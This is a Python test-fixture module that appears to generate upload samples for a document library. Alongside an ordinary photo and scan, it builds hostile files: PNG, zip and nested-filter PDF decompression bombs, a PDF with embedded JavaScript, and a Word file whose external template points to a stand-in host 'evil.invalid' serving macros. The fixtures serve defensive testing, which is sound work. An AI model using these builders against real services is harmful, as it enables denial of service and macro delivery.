"""Files as people choose them, good and bad, on top of those that editors upload."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.library_files import a_pdf, a_word_document, an_office_file

PLACE = b"Harbour Vale ward 7"


def a_photo(size: tuple[int, int] = (60, 40), *, orientation: int = 1) -> bytes:
    """Return a JPEG that says where it was taken and which way up it is."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = PLACE.decode()
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)}
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    buffer = io.BytesIO()
    picture.save(buffer, "JPEG", exif=exif, comment=PLACE)
    return buffer.getvalue()


def a_scan(pages: int = 2) -> bytes:
    """Return a TIFF as a scanner makes it, one picture for each page."""
    first, *others = [Image.new("1", (40, 60), number % 2) for number in range(pages)]
    buffer = io.BytesIO()
    first.save(buffer, "TIFF", compression="group4", save_all=True, append_images=others)
    return buffer.getvalue()


def a_png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """Return a PNG of a few kilobytes that would fill gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(
        b"IEND", b""
    )  # fmt: skip


def a_zip_bomb(megabytes: int = 150) -> bytes:
    """Return a Word document that unpacks to far more than it says on the outside."""
    buffer = io.BytesIO(a_word_document("Words"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as container:
        container.writestr("word/media/zeros.bin", bytes(megabytes * 1024 * 1024))
    return buffer.getvalue()


def a_pdf_bomb(gigabytes: int = 3) -> bytes:
    """Return a small PDF whose only page unpacks, filter within filter, to gigabytes of nothing."""
    spaces, packer = b" " * (1 << 20), zlib.compressobj(9)
    once = b"".join(packer.compress(spaces) for _ in range(gigabytes * 1024)) + packer.flush()
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(200, 200))
        stream = pikepdf.Stream(pdf, b"")
        stream.write(
            zlib.compress(once, 9), filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        )
        page.Contents = pdf.make_indirect(stream)
        pdf.save(buffer, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return buffer.getvalue()


def a_pdf_with_a_script() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf("Words"))) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        names = pikepdf.Array([pikepdf.String("run"), pdf.make_indirect(script)])
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))
        pdf.save(buffer)
    return buffer.getvalue()


def a_locked_pdf() -> bytes:
    """Return a PDF that opens for everybody and may not be changed: encrypted all the same."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf("Words"))) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user=""))
    return buffer.getvalue()


def a_document_with_a_template_from_elsewhere() -> bytes:
    relation = (
        '<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" '
        'Target="http://evil.invalid/macros.dotm"/></Relationships>'
    )
    return an_office_file(
        "wordprocessingml.document",
        {"word/document.xml": "<w/>", "word/_rels/settings.xml.rels": relation},
    )
